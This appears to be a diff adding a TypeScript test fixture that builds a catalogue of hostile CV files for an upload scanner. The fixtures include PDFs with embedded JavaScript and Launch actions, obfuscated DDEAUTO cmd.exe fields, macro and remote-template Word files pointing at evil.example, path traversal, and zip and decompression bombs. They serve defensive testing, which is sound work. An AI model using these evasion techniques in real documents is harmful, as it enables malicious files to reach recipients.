@@ -1,0 +1,247 @@
+import { readFileSync } from 'node:fs';
+import path from 'node:path';
+import { deflateSync } from 'node:zlib';
+import { strToU8, type Zippable, zipSync } from 'fflate';
+import type { ContentFlaw } from '@/lib/uploads/cv';
+import { compoundFile, cvBytes, docx, pdf } from './cv-files';
+
+/** A file of `fixtures`: made by the program it is named after, or by qpdf. */
+export const fixture = (name: string) => readFileSync(path.join(import.meta.dirname, 'fixtures', name));
+
+const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
+const deflated = (text: string) => deflateSync(Buffer.from(text, 'latin1')).toString('latin1');
+
+/** A PDF with one more stream. */
+const withStream = (dictionary: string, data: string) =>
+  pdf(`2 0 obj\n<< ${dictionary} >>\nstream\r\n${data}\r\nendstream\nendobj\n`);
+
+/** A PDF with a stream of packed objects: `4 0` is the table, that object 4 comes first. */
+export const packed = (object: string, dictionary = '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode') =>
+  withStream(dictionary, deflated(`4 0 ${object}`));
+
+/** The relationships of a part of a Word document. */
+const relationships = (kind: string, target: string, mode = 'External') =>
+  strToU8(
+    `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${target}" TargetMode="${mode}"/></Relationships>`,
+  );
+export const linked = (kind: string, target: string, mode?: string) =>
+  docx({ 'word/_rels/settings.xml.rels': relationships(kind, target, mode) });
+
+/** A Word document of these words of XML. */
+export const written = (markup: string, entries: Zippable = {}) =>
+  docx({
+    'word/document.xml': strToU8(
+      `<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>${markup}</w:p></w:body></w:document>`,
+    ),
+    ...entries,
+  });
+const run = (kind: string) => `<w:r><w:fldChar w:fldCharType="${kind}"/></w:r>`;
+const instruction = (words: string) => `<w:r><w:instrText>${words}</w:instrText></w:r>`;
+export const field = (...words: string[]) =>
+  `${run('begin')}${words.map(instruction).join('')}${run('separate')}${run('end')}`;
+
+export const sheet = (entries = {}) => zipSync({ 'xl/workbook.xml': strToU8('<workbook/>'), ...entries });
+
+const nothing = new Uint8Array(100 * 1024 * 1024);
+const directoryMark = Buffer.from('PK\u0001\u0002');
+
+/** The directory says of each part that it unpacks to ten bytes. */
+function lying(): Buffer {
+  const file = docx({ 'word/media/a.xml': nothing });
+  for (let at = file.indexOf(directoryMark); at >= 0; at = file.indexOf(directoryMark, at + 4))
+    file.writeUInt32LE(10, at + 24);
+  return file;
+}
+
+function locked(): Buffer {
+  const file = docx();
+  file.writeUInt16LE(1, file.indexOf(directoryMark) + 8);
+  return file;
+}
+
+function withText(text: string, encoding: 'latin1' | 'utf16le'): Buffer {
+  const file = compoundFile(['WordDocument']);
+  file.write(text, file.length - 1000, encoding);
+  return file;
+}
+
+function named(text: string): Buffer {
+  const file = compoundFile(['Workbook']);
+  file.write(text, file.length - 1000, 'utf16le');
+  return file;
+}
+
+function circular(): Buffer {
+  const file = compoundFile(['WordDocument']);
+  // The directory's sector is followed by itself.
+  file.writeUInt32LE(1, 512 + 4);
+  return file;
+}
+
+/** Files that no employer should get, by what they are. */
+export const hostileCvs: [what: string, bytes: Buffer, flaw: ContentFlaw][] = [
+  ['a PDF with a script', pdf(`4 0 obj ${script} endobj`), 'active'],
+  [
+    'a PDF with a script in other letters',
+    pdf('4 0 obj << /#53%\n/J#61vaScript /JS (x) >> endobj'),
+    'active',
+  ],
+  [
+    'a PDF with a script by reference',
+    pdf('4 0 obj << /S 7 0 R >> endobj 7 0 obj /JavaScript endobj'),
+    'active',
+  ],
+  ['a PDF with scripts by name', pdf('4 0 obj << /Names << /JavaScript 5 0 R >> >> endobj'), 'active'],
+  [
+    'a PDF with a script in a form',
+    pdf('4 0 obj << /AcroForm << /XFA [(form) 5 0 R] >> >> endobj'),
+    'active',
+  ],
+  ['a PDF with a script of a film', pdf('4 0 obj << /S /Rendition /JS (x) >> endobj'), 'active'],
+  ['a PDF with a script behind a comment', pdf(`4 0 %\nobj ${script} endobj`), 'active'],
+  [
+    'a PDF with a script that a later object replaces',
+    pdf(`4 0 obj ${script} endobj\n4 0 obj << >> endobj`),
+    'active',
+  ],
+  [
+    'a PDF with a script in the data of a picture',
+    withStream('/Subtype /Image', `4 0 obj ${script}`),
+    'active',
+  ],
+  ['a PDF with a script in a string', pdf(`4 0 obj (5 0 obj ${script}) endobj`), 'active'],
+  [
+    'a PDF with a script behind an open array',
+    pdf('4 0 obj << /A [ >> >> ] /S /JavaScript >> endobj'),
+    'format',
+  ],
+  ['a PDF with a script behind a false end', pdf('4 0 obj << /A endobj /S /JavaScript >> endobj'), 'format'],
+  ['a PDF that starts a program', pdf('4 0 obj << /S/Launch /F (setup.exe) >> endobj'), 'active'],
+  ['a PDF with a packed script', packed(script), 'active'],
+  ['a PDF with a packed script by qpdf', fixture('script-object-stream.pdf'), 'active'],
+  [
+    'a PDF with a packed script without a type',
+    packed(script, '/N 1 /First 4 /Filter /FlateDecode'),
+    'active',
+  ],
+  [
+    'a PDF with a packed script behind a word in its dictionary',
+    packed(script, '/N 1 /First 4 /Filter /FlateDecode /A (stream endstream) /Type /ObjStm'),
+    'active',
+  ],
+  ['a PDF with a packed script of an odd name', packed(script, '/#4e 1 /First 4 /Filter[/Fl]'), 'active'],
+  [
+    'a PDF with a script in a string that the table names',
+    withStream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', deflated(`4 1 (${script})`)),
+    'format',
+  ],
+  [
+    'a PDF with a script that is packed twice',
+    withStream('/Type /ObjStm /N 1 /First 4 /Filter [/Fl /Fl]', deflated(deflated(`4 0 ${script}`))),
+    'format',
+  ],
+  [
+    'a PDF that is packed in one of two ways',
+    packed(script, '/Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode /Filter /FlateDecode'),
+    'format',
+  ],
+  ['a PDF that is packed strangely', withStream('/Type /ObjStm /N 1 /First 4 /Filter /AHx', '61>'), 'format'],
+  [
+    'a PDF that is packed by differences',
+    packed(script, '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /DecodeParms << /Predictor 12 >>'),
+    'format',
+  ],
+  [
+    'a PDF that is packed elsewhere',
+    packed(script, '/Type /ObjStm /N 1 /First 4 /F (http://e.com)'),
+    'format',
+  ],
+  ['a PDF with a bomb', packed(' '.repeat(21 * 1024 * 1024)), 'unfolds'],
+  ['a PDF of a million objects', pdf('1 obj'.repeat(1_000_000)), 'unfolds'],
+  ['a PDF of strings in strings', pdf(`${'1 obj('.repeat(100_000)}${')'.repeat(100_000)}`), 'unfolds'],
+  ['a PDF of arrays in arrays', pdf(`4 0 obj ${'['.repeat(1_000_000)}`), 'format'],
+  ...['rc4-40', 'rc4-128', 'aes-128', 'aes-256-r5', 'aes-256-r6'].map(
+    (way): [string, Buffer, ContentFlaw] => [
+      `a PDF with a script that is encrypted by ${way}`,
+      fixture(`script-owner-${way}.pdf`),
+      'active',
+    ],
+  ),
+  ['a locked PDF', fixture('locked-aes-256.pdf'), 'locked'],
+  ['an older locked PDF', fixture('locked-rc4-128.pdf'), 'locked'],
+  ['a PDF that is locked in an unknown way', pdf('trailer << /Encrypt << /Filter /Own >> >>'), 'locked'],
+  ['a PDF without an end', cvBytes.pdf().subarray(0, 400), 'format'],
+  ['a PDF and a page', Buffer.from('%PDF-1.4\n<html><script>alert(1)</script>\n1 0 obj\n%%EOF'), 'format'],
+  ['a PDF behind a page', Buffer.concat([Buffer.from('<body>'), cvBytes.pdf()]), 'format'],
+  ['a PDF behind a program', Buffer.concat([cvBytes.program(), cvBytes.pdf()]), 'format'],
+  ['a PDF behind a script', Buffer.concat([Buffer.from('#!/bin/sh\n'), cvBytes.pdf()]), 'format'],
+  ['a PDF with a page at its end', Buffer.concat([cvBytes.pdf(), Buffer.from('<script>')]), 'format'],
+  ['a PDF and an archive', Buffer.concat([cvBytes.pdf(), cvBytes.zip()]), 'format'],
+  [
+    'a PDF and an archive with an end mark',
+    Buffer.concat([pdf(''), cvBytes.zip(), Buffer.from('%%EOF')]),
+    'format',
+  ],
+  ['a spreadsheet', cvBytes.xls(), 'format'],
+  ['a container that only has the word in it', named('WordDocument'), 'format'],
+  ['a container whose directory runs in circles', circular(), 'format'],
+  ['an old document with macros', compoundFile(['WordDocument', 'Macros', 'VBA']), 'active'],
+  ['an old document with a file in it', compoundFile(['WordDocument', '\u0001Ole10Native']), 'active'],
+  ['an old document that starts a program', withText('\u0013 DDEAUTO c:\\\\cmd.exe', 'latin1'), 'active'],
+  ['an old document that starts one in wide letters', withText('\u0013DDE "cmd"', 'utf16le'), 'active'],
+  ['a locked old document', compoundFile(['WordDocument'], 0x0100), 'locked'],
+  ['any archive', cvBytes.zip(), 'format'],
+  ['half an archive', cvBytes.docx().subarray(0, 20), 'format'],
+  ['an archive with only the names', docx({ '[Content_Types].xml': strToU8('<Types/>') }), 'format'],
+  ['a document with macros', docx({}, 'ms-word.document.macroEnabled'), 'active'],
+  ['a document with a macro project', docx({ 'word/vbaProject.bin': strToU8('x') }), 'active'],
+  ['a document with a control', docx({ 'word/activeX/activeX1.xml': strToU8('<a/>') }), 'active'],
+  ['a document with a program', docx({ 'setup.exe': strToU8('MZ') }), 'active'],
+  ['a document with a disguised program', docx({ 'word/media/image1.png': strToU8('MZ\u0000') }), 'active'],
+  ['a document with a script', docx({ 'word/run.vbs': strToU8('x') }), 'active'],
+  ['a document with an archive', docx({ 'word/media/a.bin': zipSync({ a: strToU8('x') }) }), 'active'],
+  ['a chart with a program', docx({ 'word/embeddings/a.xlsx': sheet({ 'a.exe': strToU8('MZ') }) }), 'active'],
+  [
+    'a document with a template elsewhere',
+    linked('attachedTemplate', 'https://evil.example/a.dotm'),
+    'active',
+  ],
+  ['a document with a template on a server', linked('attachedTemplate', 'file://server/a.dotm'), 'active'],
+  ['a document with a template on a share', linked('attachedTemplate', '\\\\server\\a.dotm'), 'active'],
+  ['a document with a picture elsewhere', linked('image', 'https://evil.example/a.png'), 'active'],
+  ['a document with an object elsewhere', linked('oleObject', 'file:///C:\\a.exe'), 'active'],
+  ['a document with a frame', linked('frame', 'https://evil.example/'), 'active'],
+  ['a document with another inside', linked('aFChunk', 'a.dat', 'Internal'), 'active'],
+  ['a document with a web page inside', fixture('altchunk-mht.docx'), 'active'],
+  ['a document with another by its element', written('<w:altChunk/>'), 'active'],
+  ['a document with a field that starts a program', written(field('DDEAUTO c:\\\\cmd.exe')), 'active'],
+  ['a document with such a field in pieces', written(field('DD', 'E c:\\\\cmd.exe')), 'active'],
+  ['a document with such a field in CDATA', written(field('D<![CDATA[DE]]> c:\\\\cmd.exe')), 'active'],
+  ['a document with such a field in numbers', written(field('&#68;&#x44;E c:\\\\cmd.exe')), 'active'],
+  ['a document with a simple field', written('<w:fldSimple w:instr=" DDEAUTO c:\\\\cmd "/>'), 'active'],
+  [
+    'a document whose field has a written name',
+    written(`${run('begin')}${field('QUOTE 68 68 69')}${instruction(' c:\\\\cmd')}${run('end')}`),
+    'active',
+  ],
+  [
+    'a document in other letters',
+    written('', { 'word/footer1.xml': Buffer.from('\ufeff<a/>', 'utf16le') }),
+    'format',
+  ],
+  [
+    'a document with words of its own',
+    written('', { 'word/a.xml': strToU8('<!DOCTYPE a [<!ENTITY d "DDE">]><instrText>&d;</instrText>') }),
+    'format',
+  ],
+  ['a document with a path out of it', docx({ '../../evil.xml': strToU8('x') }), 'format'],
+  ['a document of 100 MB in 100 kB', docx({ 'word/media/a.xml': nothing }), 'unfolds'],
+  ['a document that lies about its size', lying(), 'format'],
+  [
+    'a document with 1001 parts',
+    docx(Object.fromEntries(Array.from({ length: 1001 }, (_, part) => [`word/${part}.xml`, strToU8('')]))),
+    'unfolds',
+  ],
+  ['a document whose parts are locked', locked(), 'locked'],
+  ['a document that Word has locked', compoundFile(['EncryptionInfo', 'EncryptedPackage']), 'locked'],
+];
